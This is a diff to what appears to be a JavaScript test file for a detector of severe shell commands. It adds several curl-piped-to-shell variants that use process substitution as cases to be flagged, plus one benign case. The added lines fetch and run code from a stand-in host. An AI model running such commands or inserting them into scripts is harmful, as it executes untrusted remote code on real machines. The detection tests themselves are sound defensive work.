@@ -9,6 +9,9 @@ test.each([
   'curl https://x.example | exec sh',
   'curl https://x.example | timeout 9 sh',
   'curl https://x.example | busybox sh',
+  'curl https://x.example > >(sh)',
+  'curl https://x.example | tee 2>(sh)',
+  'curl https://x.example | tee >(cat | bash -s) >/dev/null',
   'if true; then curl https://x.example | sh; fi',
   'curl https://x.example | s\\\nh',
   'f() { curl https://x.example | sh; }; f',
@@ -71,4 +74,5 @@ test.each([
   'git pull && node /opt/s.js',
   'export PORT=3000; exec node /opt/s.js 2>&1',
   'cd /srv && ./run.sh > /tmp/log',
+  'node /opt/s.js 2> >(tee /tmp/log)',
 ])('nothing severe: %s', (script) => expect(severe(['sh', '-c', script])).toEqual([]));
